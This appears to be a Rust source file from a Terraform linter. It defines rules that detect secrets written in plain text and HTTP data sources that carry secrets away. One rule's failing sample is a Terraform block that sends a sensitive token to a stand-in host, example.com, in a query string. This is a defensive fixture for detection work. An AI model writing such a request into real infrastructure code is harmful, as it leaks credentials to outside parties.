//! Rules about secrets written where everybody reads them: user data, environments of functions and containers, defaults of variables.
use super::{Look, Rule};
use crate::engine::report::Severity;
use crate::engine::secrets::{looks_secret, sounds_secret};
use crate::engine::terraform::functions::decoded;
use crate::engine::terraform::module::{Block, Module};
use crate::engine::terraform::value::Value;
use std::collections::BTreeSet;

pub static WRITTEN: Rule = Rule {
    id: "tf-secret-in",
    severity: Severity::Error,
    title: "No secret is written into the configuration",
    why: "It lies in git and in the state, and user data and environments are shown to everybody who may describe the machine.",
    fix: "Keep it in Secrets Manager or the Parameter Store, and let the program read it there by its role.",
    passes: "variable \"hub_token\" {\n  type      = string\n  sensitive = true\n}\n\nresource \"aws_lambda_function\" \"scaler\" {\n  environment {\n    variables = { LOG_LEVEL = \"info\" }\n  }\n}\n",
    fails: "resource \"aws_lambda_function\" \"scaler\" {\n  environment {\n    variables = { DB_PASSWORD = \"swordfish-1979\" }\n  }\n}\n",
    check: written,
};

fn written(look: &mut Look<'_>) {
    for (module, block) in look.modules().iter().flat_map(|m| m.blocks.iter().map(move |b| (m, b))) {
        match (block.kind.as_str(), block.of()) {
            ("variable", _) => {
                let name = block.labels.first().map_or("", String::as_str);
                if block.text("default").is_some_and(|v| is_secret(name, v)) {
                    let problem = look.of(block, "default", format!("The default of `{}` is a secret.", block.address()));
                    look.found(problem.fix("Remove the default and set `sensitive = true`."));
                }
            }
            (_, "aws_lambda_function") => block.all("environment").for_each(|e| map(look, block, e, "variables")),
            (_, "aws_instance" | "aws_launch_template" | "aws_launch_configuration") => {
                for attribute in ["user_data", "user_data_base64"] {
                    let scripts = scripts(look, module, block, attribute);
                    if let Some(name) = scripts.iter().find_map(|script| script.lines().find_map(secret_of)) {
                        let problem = look.of(block, attribute, format!("`{attribute}` of `{}` holds the secret `{name}`.", block.address()));
                        look.found(problem);
                    }
                }
            }
            // A placeholder that is changed by hand later is no secret.
            (_, "aws_secretsmanager_secret_version") if !is_placeholder(block) => {
                let problem = look.of(block, "secret_string", format!("`secret_string` of `{}` is written into the configuration.", block.address()));
                look.found(problem.fix("Take it from a `sensitive` variable by `secret_string_wo`, or set it by hand and ignore changes."));
            }
            (_, "aws_db_instance" | "aws_rds_cluster") => {
                for name in ["password", "master_password"].iter().filter(|n| block.text(n).is_some_and(|v| !v.is_empty())) {
                    let problem = look.of(block, name, format!("`{name}` of `{}` is written into the configuration.", block.address()));
                    look.found(problem.fix("Remove it and set `manage_master_user_password = true`."));
                }
            }
            _ => {}
        }
    }
}

/// The texts of an attribute that holds a script, or the base64 of one: as it comes out, and what it is made of where that isn't known.
fn scripts(look: &Look<'_>, module: &Module, block: &Block, attribute: &str) -> Vec<String> {
    let Some(a) = block.attribute(attribute) else { return Vec::new() };
    match &a.value {
        Value::Text(text) => vec![text.to_string()].into_iter().chain(decoded(text)).collect(),
        Value::Partly(text) => vec![text.to_string()],
        _ => {
            let written = look.terraform.sources.get(block.source).map(|s| s.slice(&a.span).to_owned());
            let local = |p: &Vec<String>| match module.locals.get(p.get(1).filter(|_| p[0] == "local")?)? {
                Value::Text(text) | Value::Partly(text) => Some(text.to_string()),
                _ => None,
            };
            written.into_iter().chain(a.refs.iter().filter_map(local)).collect()
        }
    }
}

/// Whether a secret's value isn't in the configuration, or is there only until somebody sets it.
fn is_placeholder(version: &Block) -> bool {
    let known = version.text("secret_string").is_some_and(|v| !v.trim().is_empty());
    let ignored = |l: &Block| l.attribute("ignore_changes").is_some_and(|a| a.refs.iter().any(|p| p[0] == "secret_string" || p[0] == "all"));
    !known || version.all("lifecycle").any(ignored)
}

/// The entries of a map of variables.
fn map(look: &mut Look<'_>, resource: &Block, block: &Block, attribute: &str) {
    let Some(variables) = block.value(attribute).and_then(Value::entries) else { return };
    for name in variables.iter().filter(|(name, v)| v.as_str().is_some_and(|v| is_secret(name, v))).map(|(name, _)| name) {
        let problem = look.of(block, attribute, format!("`{name}` of `{}` is a secret in plain text.", resource.address()));
        look.found(problem);
    }
}

/// A value that is a secret by its look or its name, and no reference to where one is kept.
fn is_secret(name: &str, value: &str) -> bool {
    let elsewhere = value.is_empty() || value.starts_with("arn:") || value.starts_with('/') || value.starts_with("${");
    looks_secret(value) || (sounds_secret(name) && !elsewhere)
}

/// The name in `export NAME=value` of a script, where the value is a secret and not made by the script.
fn secret_of(line: &str) -> Option<&str> {
    let (name, value) = line.split_once('=')?;
    let name = name.trim().rsplit(' ').next().filter(|n| !n.is_empty())?;
    let value = value.trim().trim_matches(['"', '\'']);
    (!value.starts_with('$') && is_secret(name, value)).then_some(name)
}

pub static SENT: Rule = Rule {
    id: "tf-http-exfil",
    severity: Severity::Error,
    title: "No request carries a secret away",
    why: "A data source is read at every `plan`, by everybody who plans: a secret in the address, a header or the body is in somebody's access log before anything is reviewed.",
    fix: "Leave the request out. What needs the secret reads it where it runs, by its role.",
    passes: r#"data "http" "ranges" {
  url = "https://ip-ranges.amazonaws.com/ip-ranges.json"
}
"#,
    fails: r#"variable "hub_token" {
  type      = string
  sensitive = true
}

data "http" "collect" {
  url = "https://example.com/?t=${var.hub_token}"
}
"#,
    check: sent,
};

/// Resources and data sources of which an attribute is a secret.
const KEEPERS: [&str; 9] = [
    "aws_secretsmanager_secret_version",
    "aws_secretsmanager_random_password",
    "aws_ssm_parameter",
    "aws_iam_access_key",
    "aws_eks_cluster_auth",
    "aws_ecr_authorization_token",
    "random_password",
    "tls_private_key",
    "aws_kms_secrets",
];

fn sent(look: &mut Look<'_>) {
    for module in look.modules() {
        for request in module.data("http") {
            for name in ["url", "request_headers", "request_body"] {
                let Some(a) = request.attribute(name) else { continue };
                let Some(secret) = reached(module, &a.refs).into_iter().find(|p| keeps(module, p)) else { continue };
                let problem = look.of(request, name, format!("`{}` sends `{}` away.", request.address(), secret.join(".")));
                look.found(problem);
            }
        }
    }
}

/// What paths lead to, through locals.
fn reached(module: &Module, paths: &[Vec<String>]) -> BTreeSet<Vec<String>> {
    let (mut seen, mut next) = (BTreeSet::new(), paths.to_vec());
    while let Some(path) = next.pop() {
        if path.len() > 1 && path[0] == "local" && !seen.contains(&path) {
            let by = path[..2].join(".");
            next.extend(module.references.iter().filter(|r| r.by == by).map(|r| r.path.clone()));
        }
        seen.insert(path);
    }
    seen
}

/// Whether a path leads to a secret.
fn keeps(module: &Module, path: &[String]) -> bool {
    match path {
        [root, name, ..] if root == "var" => {
            let declared = module.of_kind("variable").find(|v| v.labels.first() == Some(name));
            sounds_secret(name) || declared.is_some_and(|v| v.is_true("sensitive"))
        }
        [root, of, ..] if root == "data" || root == "ephemeral" => KEEPERS.contains(&of.as_str()),
        [of, _, attribute, ..] => KEEPERS.contains(&of.as_str()) && !attribute.starts_with("public_key") && attribute != "arn",
        _ => false,
    }
}
